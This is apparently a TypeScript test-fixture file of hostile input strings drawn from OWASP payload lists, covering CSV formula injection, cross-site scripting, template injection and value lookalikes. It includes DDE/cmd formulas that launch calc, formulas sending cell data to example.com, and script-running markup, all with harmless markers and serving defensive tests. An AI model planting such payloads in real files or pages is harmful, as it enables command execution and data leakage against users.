/** Texts that programs take for something else: formulas, commands, markup, numbers, dates (OWASP, payload lists for CSV and XSS). */
export const FORMULAS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "|=1+1",
  ";=1+1",
  '=HYPERLINK("http://example.com/?"&A1,"Klicka")',
  '=WEBSERVICE("http://example.com/"&A1)',
  '=IMPORTXML("http://example.com","//a")',
  "=cmd|'/C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  "%0A=1+1",
  "'=1+1",
  "''=1+1",
  "＝1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "=PARTNER.CASHHELD(A1,B1)",
] as const;

export const MARKUP = [
  "<b>Norra IF</b>",
  "<script>globalThis.hacked=1</script>",
  "<img src=x onerror=globalThis.hacked=1>",
  '"><svg/onload=globalThis.hacked=1>',
  "<iframe src=javascript:globalThis.hacked=1>",
  "javascript:globalThis.hacked=1",
  "{{7*7}}",
  "${7*7}",
  "<!--",
  "]]>",
  "&lt;b&gt;",
  "</textarea><script>globalThis.hacked=1</script>",
  "<a href='https://example.com'>Norra</a>",
  "<style>*{display:none}</style>",
] as const;

export const LOOKALIKES = ["0042", "1e5", "2019-04-30", "1/2", "50%", "TRUE", "#N/A", "1 200", "(12)", "00-1"] as const;

export const HOSTILE = [...FORMULAS, ...MARKUP, ...LOOKALIKES] as const;
